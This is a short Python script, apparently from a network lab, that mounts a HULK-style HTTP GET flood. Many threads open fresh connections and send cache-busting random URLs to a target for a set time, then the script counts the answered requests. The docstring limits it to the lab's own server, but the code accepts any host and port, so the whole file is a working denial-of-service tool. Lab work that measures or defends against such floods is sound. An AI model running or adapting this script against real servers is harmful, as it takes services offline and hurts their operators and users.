"""An HTTP GET flood from one host, as HULK does it: many workers, a new connection and a unique
URL (a random query string, past any cache) for every request, for a fixed time.

    python3 http_flood.py HOST PORT SECONDS [WORKERS]

Prints how many requests were answered. For the lab only (models/lab/lab.sh): it targets the
lab's own server inside its namespaces.
"""
import http.client, random, string, sys, threading, time

host, port, secs = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
workers = int(sys.argv[4]) if len(sys.argv) > 4 else 16
end = time.monotonic() + secs
done = [0] * workers


def work(k):
    rnd = random.Random(k)
    while time.monotonic() < end:
        q = ''.join(rnd.choices(string.ascii_letters, k=12))
        try:
            c = http.client.HTTPConnection(host, port, timeout=2)
            c.request('GET', f'/?{q}={rnd.randrange(1 << 30)}', headers={'Cache-Control': 'no-cache'})
            c.getresponse().read()
            c.close()
            done[k] += 1
        except OSError:
            pass


threads = [threading.Thread(target=work, args=(k,)) for k in range(workers)]
for t in threads:
    t.start()
for t in threads:
    t.join()
print(sum(done))
